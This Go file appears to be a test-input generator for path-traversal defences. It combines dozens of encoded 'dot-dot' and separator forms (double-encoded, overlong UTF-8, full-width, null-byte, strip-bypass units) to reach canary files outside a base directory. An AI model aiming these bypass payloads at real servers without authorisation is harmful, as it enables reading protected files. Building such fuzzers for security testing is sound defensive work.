package attack

import (
	"fmt"
	"strings"
)

// form is one way to write "go up" or "next element". Its family names the misreading it relies on.
type form struct{ id, wire, family string }

const (
	plain      = "plain"
	encoded    = "encoded"
	double     = "double"
	triple     = "triple"
	overlong   = "overlong"
	percentU   = "percent-u"
	backslash  = "backslash"
	bestFit    = "best-fit"
	params     = "params"
	slashes    = "slashes"
	control    = "control"
	windows    = "windows"
	multiDot   = "multi-dot"
	badPercent = "bad-percent"
	badUTF8    = "bad-utf8"
)

var dotForms = []form{
	{"dd", "..", plain},
	{"ee", "%2e%2e", encoded},
	{"de", ".%2e", encoded},
	{"ed", "%2e.", encoded},
	{"EE", "%2E%2E", encoded},
	{"ee2", "%252e%252e", double},
	{"nested", "%%32%65%%32%65", double},
	{"ee3", "%25252e%25252e", triple},
	{"c0ae", "%c0%ae%c0%ae", overlong},
	{"e080ae", "%e0%80%ae%e0%80%ae", overlong},
	{"c0ae1", ".%c0%ae", overlong},
	{"u002e", "%u002e%u002e", percentU},
	{"nul", "..%00", control},
	{"x01", "..%01", control},
	{"tab", ".%09.", control},
	{"semi", "..;", params},
	{"semikv", "..;a=b", params},
	{"3", "...", multiDot},
	{"4", "....", multiDot},
	{"fw", "\uff0e\uff0e", bestFit},
	{"fwe", "%ef%bc%8e%ef%bc%8e", bestFit},
	{"u2025", "%e2%80%a5", bestFit},
	{"u2024", "%e2%80%a4%e2%80%a4", bestFit},
	{"sp", "..%20", windows},
	{"pct", ".%.", badPercent},
	{"pctend", "..%", badPercent},
	{"ff", ".%ff.", badUTF8},
}

var separators = []form{
	{"s", "/", plain},
	{"2f", "%2f", encoded},
	{"2F", "%2F", encoded},
	{"b", `\`, backslash},
	{"5c", "%5c", backslash},
	{"252f", "%252f", double},
	{"255c", "%255c", double},
	{"nested", "%%32%66", double},
	{"25252f", "%25252f", triple},
	{"c0af", "%c0%af", overlong},
	{"e080af", "%e0%80%af", overlong},
	{"c19c", "%c1%9c", overlong},
	{"u2215", "%u2215", percentU},
	{"u002f", "%u002f", percentU},
	{"semi", ";/", params},
	{"ss", "//", slashes},
	{"sds", "/./", slashes},
	{"fw", "\uff0f", bestFit},
	{"fwe", "%ef%bc%8f", bestFit},
	{"d2215", "%e2%88%95", bestFit},
	{"f2044", "%e2%81%84", bestFit},
}

// stripUnits go up one level once "../" (or "..\") has been removed from them.
var stripUnits = []form{
	{"dddd", "....//", ""},
	{"ddd.d", "..././", ""},
	{"ddb", `....\/`, ""},
	{"dsb", `..../\`, ""},
	{"enc", "%2e%2e%2e%2e%2f%2f", ""},
	{"half", "....%2f/", ""},
}

// family returns the class of a pair. Encoding once is what any server undoes, so the other form decides.
func family(dot, sep form) string {
	switch {
	case dot.family == sep.family, sep.family == plain:
		return dot.family
	case dot.family == plain:
		return sep.family
	case sep.family == encoded:
		return dot.family
	case dot.family == encoded:
		return sep.family
	}
	return "mixed"
}

// prefix stands in front of the climb; extra is how many levels it adds.
type prefix struct {
	id, wire string
	extra    int
	joined   bool // followed by the separator of the case
	depths   []int
}

func (b *builder) prefixes() []prefix {
	few := []int{1, 4}
	out := []prefix{
		{id: "", depths: []int{1, 2, 3, 4, 5, 6, 7, 8}},
		{id: "dot", wire: "./", depths: few},
		{id: "slash", wire: "//", depths: few},
	}
	if b.layout.Dir != "" {
		out = append(out, prefix{id: "dir", wire: b.layout.Dir, extra: 1, joined: true, depths: few})
	}
	if b.layout.File != "" {
		out = append(out, prefix{id: "file", wire: b.layout.File, extra: 1, joined: true, depths: few})
	}
	return out
}

// above returns the first canary at each depth, as what follows the climb.
func (b *builder) above() map[int]string {
	out := make(map[int]string)
	for _, c := range b.layout.Outside() {
		if _, ok := out[c.Up()]; !ok {
			out[c.Up()] = c.rest()
		}
	}
	return out
}

// grammar adds depth x separator x dots x prefix.
func (b *builder) grammar() {
	above := b.above()
	for _, p := range b.prefixes() {
		for _, dot := range dotForms {
			for _, sep := range separators {
				for _, depth := range p.depths {
					if rest, ok := above[depth]; ok {
						b.climb(p, dot, sep, depth, rest)
					}
				}
			}
		}
	}
}

func (b *builder) climb(p prefix, dot, sep form, depth int, rest string) {
	wire := p.wire
	if p.joined {
		wire += sep.wire
	}
	wire += strings.Repeat(dot.wire+sep.wire, depth+p.extra)
	wire += strings.ReplaceAll(rest, "/", sep.wire)
	b.add("traversal-"+family(dot, sep), id(dot.id, sep.id, fmt.Sprint(depth), p.id), wire)
}

func (b *builder) strip() {
	above := b.above()
	for _, p := range b.prefixes() {
		for _, unit := range stripUnits {
			for _, depth := range p.depths {
				rest, ok := above[depth]
				if !ok {
					continue
				}
				wire := p.wire
				if p.joined {
					wire += "/"
				}
				wire += strings.Repeat(unit.wire, depth+p.extra) + rest
				b.add("traversal-strip", id(unit.id, fmt.Sprint(depth), p.id), wire)
			}
		}
	}
}

// siblings adds names that reach a directory beside the base whose name starts with the base's.
func (b *builder) siblings() {
	for _, c := range b.layout.Outside() {
		dir, file, ok := strings.Cut(c.rest(), "/")
		if !ok || c.Up() != 1 {
			continue
		}
		for _, dot := range dotForms {
			for _, sep := range separators {
				f := family(dot, sep)
				if f != plain && f != encoded && f != slashes {
					continue
				}
				for _, p := range b.prefixes() {
					wire := p.wire
					if p.joined {
						wire += sep.wire
					}
					wire += strings.Repeat(dot.wire+sep.wire, 1+p.extra) + dir + sep.wire + file
					b.add("sibling-prefix", id("up", dot.id, sep.id, p.id), wire)
				}
			}
		}
		// Base and name put together without a separator.
		if suffix, ok := strings.CutPrefix(dir, b.layout.baseName()); ok && suffix != "" {
			b.add("sibling-prefix", "concat", suffix+"/"+file)
			b.add("sibling-prefix", "concat-2f", suffix+"%2f"+file)
			b.add("sibling-prefix", "concat-dot", suffix+"/./"+file)
		}
	}
}

// id joins the parts of a Name that are there.
func id(parts ...string) string {
	var out []string
	for _, p := range parts {
		if p != "" {
			out = append(out, p)
		}
	}
	return strings.Join(out, ".")
}
